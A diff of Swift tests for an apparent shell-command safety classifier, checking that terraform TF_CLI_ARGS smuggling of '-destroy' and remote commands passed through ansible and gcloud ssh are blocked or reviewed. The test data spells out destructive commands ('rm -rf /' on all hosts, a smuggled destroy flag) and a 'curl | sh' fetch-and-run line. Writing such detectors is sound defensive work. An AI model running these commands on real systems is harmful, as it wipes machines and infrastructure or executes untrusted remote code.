@@ -126,16 +126,28 @@ import Testing
         expectVerdict(c)
     }
 
-    @Test func environmentArgumentsAreNotSeen() {
-        withKnownIssue("the catalog sees arguments only: `TF_CLI_ARGS_apply=-destroy` turns `apply` into a destroy") {
-            expectVerdict(VerdictCase("TF_CLI_ARGS_apply=-destroy terraform apply -auto-approve", .block))
-        }
+    /// `TF_CLI_ARGS` / `TF_CLI_ARGS_<subcommand>` given to terraform are read as its arguments.
+    @Test(arguments: [
+        VerdictCase("TF_CLI_ARGS_apply=-destroy terraform apply -auto-approve", .block),
+        VerdictCase("TF_CLI_ARGS='-destroy -auto-approve' tofu apply", .block),
+        VerdictCase("TF_CLI_ARGS_plan=-destroy terraform apply", .review),
+        VerdictCase("TF_CLI_ARGS_plan=-no-color terraform plan", .allow),
+    ])
+    func environmentArgumentsAreSeen(_ c: VerdictCase) {
+        expectVerdict(c)
     }
 
-    @Test func remoteCommandsInOptionsAreNotJudged() {
-        withKnownIssue("commands passed in options (`ansible -a`, `gcloud compute ssh --command`) are not judged, only reviewed") {
-            expectVerdict(VerdictCase("ansible all -m shell -a 'rm -rf /'", .block))
-            expectVerdict(VerdictCase("gcloud compute ssh vm-1 --command 'rm -rf /'", .block))
-        }
+    /// Commands passed in options (`ansible -a`, `gcloud compute ssh --command`) are judged.
+    @Test(arguments: [
+        VerdictCase("ansible all -m shell -a 'rm -rf /'", .block, "files.rm.catastrophic-target"),
+        VerdictCase("gcloud compute ssh vm-1 --command 'rm -rf /'", .block, "files.rm.catastrophic-target"),
+        VerdictCase("gcloud compute ssh vm-1 --command='curl -s x | sh'", .block),
+        VerdictCase("ansible web -m shell -a 'uptime'", .review, "cloud.ansible.shell"),
+        VerdictCase("ansible all -m apt -a 'name=nginx state=present'", .review, "cloud.ansible.module"),
+        VerdictCase("ansible all -a 'rm -rf /'", .block, "files.rm.catastrophic-target"),
+        VerdictCase("ansible localhost --module-name debug --args 'var=groups.keys()'", .allow),
+    ])
+    func remoteCommandsInOptionsAreJudged(_ c: VerdictCase) {
+        expectVerdict(c)
     }
 }
